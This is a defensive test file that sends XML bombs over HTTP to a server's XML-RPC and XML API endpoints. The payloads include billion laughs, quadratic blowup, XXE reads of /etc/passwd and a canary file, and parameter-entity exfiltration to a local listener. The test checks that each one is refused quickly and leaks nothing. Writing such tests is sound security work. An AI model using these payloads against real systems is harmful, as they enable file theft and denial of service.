/**
 * Issue 15, item 5: XML bombs through every face that reads XML, end to end over HTTP, against a
 * real `clientele serve` process — XML-RPC (`/appserver/xmlrpc`) and the XML action API
 * (`/cortexapi/default.aspx` and its alias `/xmlapi`), both read by the one guarded reader
 * (src/faces/xml/reader.ts, whose unit tests are test/faces/xml/reader.test.ts) — and XML sent
 * to the faces that read none (REST, Thrift over HTTP). Each bomb must be refused in the face's
 * own error shape (never a 5xx) in < 100 ms (the median of the rounds, timed from the client),
 * with the server's resident memory growing < 50 MB (sampled from /proc every 10 ms), no file
 * read (a canary file's content and /etc/passwd's never answered), no connection made to a
 * listener the documents point at, and no row written anywhere.
 */
import { after, before, it } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { randomBytes } from 'node:crypto'
import { eachDialect } from '../helpers/harness.js'
import { count } from '../helpers/adversarial.js'
import { ADMIN_AUTH, MB, countingListener, median, post, rowCounts, rssSampler, startServeProcess, type Sent, type BombServer } from './bombs-proc.js'

/** Rounds of every bomb on every face (the latency is the median of these). */
const ROUNDS = count('BOMB_ROUNDS', 5, 25)

/** A face that reads XML: where, how a document is wrapped around a bomb, and its error shape. */
interface Face {
  name: string
  path: string
  /** A document with `doctype` before the root and `inner` where the face reads values. */
  wrap(doctype: string, inner: string, rootAttrs?: string): string
  /** Fails unless `a` is this face's refusal of a document (not a 5xx, not success). */
  refused(a: Sent, what: string): void
}

/**
 * A body over the 1 MiB limit is refused from its Content-Length, or cut off where it passes
 * 1 MiB when chunked: the server answers its error and closes, but the client may still be
 * sending, so the close can reset the connection before the answer is read (status 0 here).
 * Refused either way; the answer, when read, must be the face's.
 */
function refusedOrCut(f: Face, a: Sent, what: string, bytes: number): void {
  if (bytes > MB && a.status === 0) return
  f.refused(a, what)
}

const FAULT = /^<\?xml version="1\.0" encoding="UTF-8"\?>\s*<methodResponse><fault><value><struct><member><name>faultCode<\/name><value><int>(-?\d+)<\/int><\/value><\/member><member><name>faultString<\/name><value><string>([^<]*)<\/string>/

const xmlrpc: Face = {
  name: 'XML-RPC',
  path: '/appserver/xmlrpc',
  wrap: (doctype, inner, rootAttrs = '') =>
    `<?xml version="1.0"?>\n${doctype}<methodCall${rootAttrs}><methodName>cloud_api_customer.find</methodName><params><param><value><string>${inner}</string></value></param></params></methodCall>`,
  refused(a, what) {
    // Seed 000's clients read faults from a 200 (xmlrpclib raises Fault); a body over the limit is fault 413.
    assert.equal(a.status, 200, `${what}: status ${a.status}: ${a.text.slice(0, 200)}`)
    assert.match(String(a.headers['content-type']), /^text\/xml/, what)
    const m = FAULT.exec(a.text)
    assert.ok(m, `${what}: not a fault: ${a.text.slice(0, 300)}`)
    assert.ok(['-32700', '413'].includes(m[1]!), `${what}: fault ${m[1]} ${m[2]}`)
  },
}

function xmlapiFace(path: string): Face {
  return {
    name: `XML API ${path}`,
    path,
    wrap: (doctype, inner, rootAttrs = '') =>
      `<?xml version="1.0" encoding="utf-8"?>\n${doctype}<request version="1.0" action="FIND"${rootAttrs}><customer><name>${inner}</name></customer></request>`,
    refused(a, what) {
      assert.equal(a.status, 400, `${what}: status ${a.status}: ${a.text.slice(0, 200)}`)
      assert.match(String(a.headers['content-type']), /^text\/xml/, what)
      assert.match(a.text, /<error><id>3<\/id><message>[^<]+<\/message><\/error>/, `${what}: not error 3: ${a.text.slice(0, 300)}`)
    },
  }
}

const FACES: Face[] = [xmlrpc, xmlapiFace('/cortexapi/default.aspx'), xmlapiFace('/xmlapi')]

interface Bomb {
  name: string
  /** The body for a face; `port` is the counting listener's. */
  body(face: Face, env: { port: number; canary: string }): string
  chunked?: boolean
}

const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
  ']>\n'

const BOMBS: Bomb[] = [
  { name: 'billion laughs', body: (f) => f.wrap(LAUGHS, '&lol9;') },
  {
    // One 50 KB entity referenced 15,000 times: 750 MB once expanded, 110 KB on the wire.
    name: 'quadratic blowup',
    body: (f) => f.wrap(`<!DOCTYPE q [<!ENTITY a "${'a'.repeat(50_000)}">]>\n`, '&a;'.repeat(15_000)),
  },
  { name: 'XXE file:///etc/passwd', body: (f) => f.wrap('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', '&x;') },
  { name: 'XXE file (canary)', body: (f, e) => f.wrap(`<!DOCTYPE x [<!ENTITY x SYSTEM "file://${e.canary}">]>\n`, '&x;') },
  { name: 'XXE http', body: (f, e) => f.wrap(`<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:${e.port}/x">]>\n`, '&x;') },
  {
    name: 'external parameter entity',
    body: (f, e) => f.wrap(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:${e.port}/dtd"> %p;]>\n`, '&evil;'),
  },
  {
    name: 'parameter entity exfiltration',
    body: (f, e) =>
      f.wrap(
        `<!DOCTYPE x [<!ENTITY % file SYSTEM "file://${e.canary}"><!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:${e.port}/?%file;'>"> %all;]>\n`,
        '&send;',
      ),
  },
  { name: 'external DTD', body: (f, e) => f.wrap(`<!DOCTYPE x SYSTEM "http://127.0.0.1:${e.port}/ext.dtd">\n`, 'x') },
  { name: 'external DTD (public id)', body: (f, e) => f.wrap(`<!DOCTYPE x PUBLIC "-//X//DTD X//EN" "file://${e.canary}">\n`, 'x') },
  {
    name: 'XInclude',
    body: (f, e) => f.wrap('', `</string><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${e.canary}" parse="text"/><string>`),
  },
  { name: 'nesting depth 10^5', body: (f) => f.wrap('', '<a>'.repeat(100_000) + '</a>'.repeat(100_000)) },
  // 5 MB: over the 1 MiB limit, refused from its Content-Length (413 counts as refused).
  { name: 'a million character references', body: (f) => f.wrap('', '&#65;'.repeat(1_000_000)) },
  { name: 'a million character references, chunked', body: (f) => f.wrap('', '&#65;'.repeat(1_000_000)), chunked: true },
  // Under the size limit: the reader's count of references refuses it.
  { name: '200,000 character references (under 1 MiB)', body: (f) => f.wrap('', '&#65;'.repeat(200_000)) },
  {
    name: '100,000 attributes',
    body: (f) => f.wrap('', 'x', ' ' + Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')),
  },
  {
    // The same billion laughs, in UTF-16: a reader that honours the declaration would decode it.
    name: 'billion laughs in UTF-16',
    body: (f) => '\ufeff' + f.wrap(LAUGHS, '&lol9;').replace('<?xml version="1.0"', '<?xml version="1.0" encoding="UTF-16"'),
  },
]

function encode(b: Bomb, text: string): Buffer {
  return b.name.includes('UTF-16') ? Buffer.from(text, 'utf16le') : Buffer.from(text)
}

eachDialect('XML bombs through every XML face', (dialect) => {
  let s: BombServer
  let listener: Awaited<ReturnType<typeof countingListener>>
  let dir: string
  let canary: string
  let secret: string

  before(async () => {
    listener = await countingListener()
    dir = mkdtempSync(join(tmpdir(), 'clientele-bombs-'))
    canary = join(dir, 'canary.txt')
    secret = `canary-${randomBytes(12).toString('hex')}`
    writeFileSync(canary, secret)
    s = await startServeProcess(dialect)
  })
  after(async () => {
    await s?.close()
    await listener?.close()
    rmSync(dir, { recursive: true, force: true })
  })

  it(`every bomb on every face (${ROUNDS} rounds): refused in the face's shape, median < 100 ms, RSS growth < 50 MB, nothing read, fetched or written`, async (t) => {
    const env = { port: listener.port, canary }
    const passwd = readFileSync('/etc/passwd', 'utf8').split('\n')[0]!
    const headers = { authorization: ADMIN_AUTH, 'content-type': 'text/xml' }
    // Warm up: a good call and every bomb once on each face (lazily loaded code, JIT).
    for (const f of FACES) {
      const ok = await post(s.url, f.path, f.wrap('', 'nobody'), headers)
      assert.ok(ok.status === 200 && !/fault|<error>/.test(ok.text), `${f.name} answers a good document: ${ok.text.slice(0, 200)}`)
      for (const b of BOMBS) await post(s.url, f.path, encode(b, b.body(f, env)), headers, b.chunked)
    }
    const rows = await rowCounts(s.deps)
    const rss0 = s.rss()
    const sampler = rssSampler(s.rss)
    const times = new Map<string, number[]>()
    for (let round = 0; round < ROUNDS; round++) {
      for (const f of FACES) {
        for (const b of BOMBS) {
          const what = `${b.name} on ${f.name}`
          const body = encode(b, b.body(f, env))
          const a = await post(s.url, f.path, body, headers, b.chunked)
          refusedOrCut(f, a, what, body.length)
          assert.ok(!a.text.includes(secret) && !a.text.includes(passwd), `${what}: a file's content is in the answer`)
          assert.ok(!/lollol|aaaaaaaaaa/.test(a.text), `${what}: an expansion is in the answer`)
          const key = `${f.name}\t${b.name}`
          times.set(key, [...(times.get(key) ?? []), a.ms])
        }
      }
    }
    const peak = sampler.stop()
    assert.ok(s.alive(), 'the server still runs')
    const medians = [...times].map(([k, ms]) => [k, median(ms), Math.max(...ms)] as const)
    const slowest = medians.reduce((a, b) => (b[1] > a[1] ? b : a))
    t.diagnostic(`${dialect}: ${ROUNDS} rounds × ${FACES.length} faces × ${BOMBS.length} bombs; slowest median ${slowest[1].toFixed(1)} ms (${slowest[0].replace('\t', ': ')}); RSS ${(rss0 / MB).toFixed(1)} MB → peak ${(peak / MB).toFixed(1)} MB`)
    for (const [k, m, max] of medians) assert.ok(m < 100, `${k.replace('\t', ': ')}: median ${m.toFixed(1)} ms (max ${max.toFixed(1)} ms)`)
    assert.ok(peak - rss0 < 50 * MB, `RSS grew ${((peak - rss0) / MB).toFixed(1)} MB`)
    assert.equal(listener.connections(), 0, 'no connection reached the listener the documents name')
    assert.deepEqual(await rowCounts(s.deps), rows, 'no row written')
  })

  it('faces that read no XML refuse it unread: REST 415 problem+json, Thrift over HTTP 400', async () => {
    const env = { port: listener.port, canary }
    const rows = await rowCounts(s.deps)
    // Those under the body limit (the 413 of a larger body is the same on every route, above).
    for (const b of BOMBS) {
      const body = encode(b, b.body(xmlrpc, env))
      if (body.length > MB) continue
      const rest = await post(s.url, `/orgs/${s.masterId}/customers`, body, { authorization: ADMIN_AUTH, 'content-type': 'application/xml' })
      assert.ok([413, 415].includes(rest.status), `REST, ${b.name}: ${rest.status} ${rest.text.slice(0, 200)}`)
      assert.match(String(rest.headers['content-type']), /^application\/problem\+json/, `REST, ${b.name}`)
      const thrift = await post(s.url, '/thrift/customer', body, { authorization: ADMIN_AUTH, 'content-type': 'application/xml' })
      assert.ok([400, 413].includes(thrift.status), `Thrift, ${b.name}: ${thrift.status}`)
      assert.match(String(thrift.headers['content-type']), /^application\/x-thrift/, `Thrift, ${b.name}`)
    }
    assert.equal(listener.connections(), 0)
    assert.deepEqual(await rowCounts(s.deps), rows, 'no row written')
  })
})
